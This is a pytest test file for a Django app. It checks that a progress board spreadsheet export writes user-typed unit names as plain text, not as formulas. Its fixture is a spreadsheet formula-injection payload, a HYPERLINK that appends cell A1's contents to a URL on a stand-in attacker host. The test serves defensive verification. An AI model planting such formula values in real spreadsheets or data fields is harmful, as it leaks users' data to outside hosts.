"""Issue 11: the progress board export writes text typed by people (unit names) as text, never
as a formula a spreadsheet would run."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from thidua.units.models import Unit

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.mark.django_db
def test_board_export_escapes_formulas(issued, world, district_officer, client):
    Unit.objects.filter(pk=world.commune_b.pk).update(name=HOSTILE_NAME)
    client.force_login(district_officer)
    response = client.get(reverse("campaigns:board-export", args=[issued.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + HOSTILE_NAME in [c.value for c in cells]
